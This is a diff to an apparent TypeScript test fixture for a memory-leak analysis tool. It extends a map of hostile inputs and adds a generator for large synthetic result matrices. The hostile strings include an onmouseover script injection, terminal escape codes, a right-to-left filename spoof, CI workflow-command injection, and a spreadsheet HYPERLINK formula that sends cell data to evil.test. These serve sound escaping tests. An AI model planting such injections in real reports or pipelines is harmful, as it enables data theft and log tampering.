@@ -11,6 +11,7 @@ import {
   MiB,
   type PlanSpec,
   planOf,
+  rtcNode,
   source,
 } from '../analyze/build-ledger.ts';
 
@@ -87,7 +88,7 @@ export const HOSTILE: Readonly<Record<string, string>> = {
   quotes: `"'\`onmouseover="alert(1)`,
   control: `a${ESC}[2Jb\u0000c\u0007d\ud800e`,
   'right to left': `${RIGHT_TO_LEFT}gpj.exe שלום`,
-  command: '::error title=x::y%0A::set-output name=a::b\r\n::stop-commands::z',
+  command: '::error title=x::y%0A::set-output name=a::b\r\n::stop-commands::z ##[error]w',
   markdown: '| x | [a](https://evil.test) @livekit #12 `b`',
   formula: '=HYPERLINK("https://evil.test?"&A1;"x")',
   comment: '<!-- ]]> --> &lt; {{x}} %s',
@@ -102,6 +103,10 @@ export function hostileResult(name: string): RunResult {
         ...leaking,
         cell: { scenario: name, target: `${name}@1`, executor: name, allocator: name },
         metrics: { ...leaking.metrics, [`threads.${name}`]: leak(1, 1), [name]: flat(1) },
+      },
+      {
+        ...calm,
+        cell: { scenario: name, target: `${name}@1`, executor: `${name}2`, allocator: name },
       },
       { ...died, end: { kind: 'target-died', cycle: 4, reason: name } },
     ],
@@ -122,4 +127,27 @@ export function hostileResult(name: string): RunResult {
       quality: { ...cell.quality, probeErrors: [name] },
     })),
   };
+}
+
+/** As many cells as a large matrix has, as noisy as real ones; one in two leaks. Made from one judged cell each. */
+export function manyCells(size: { readonly cells: number; readonly cycles: number }): RunResult {
+  const kinds = [true, false].map((bad) => {
+    const script = rtcNode(bad, { cycles: size.cycles, seed: 1 });
+    const parts = {
+      'map.code': flat(34 * MiB),
+      'map.stack': flat(MiB),
+      'map.other': flat(9 * MiB),
+    };
+    const { uniform } = source(7);
+    const threads = Object.fromEntries(
+      Array.from({ length: 8 }, (_, i) => [`threads.pool-${i}`, () => i + Math.round(uniform())]),
+    );
+    const idle = { checkpoint: 'left+idle' as const, metrics: script.metrics };
+    return { ...script, metrics: { ...script.metrics, ...parts, ...threads }, idle };
+  });
+  const scripts = Array.from({ length: size.cells }, (_, i) => ({
+    ...(kinds[i % 2] ?? leaking),
+    cell: { ...kinds[i % 2]?.cell, executor: `inline${i}` },
+  }));
+  return resultOf(scripts, { cycles: size.cycles });
 }
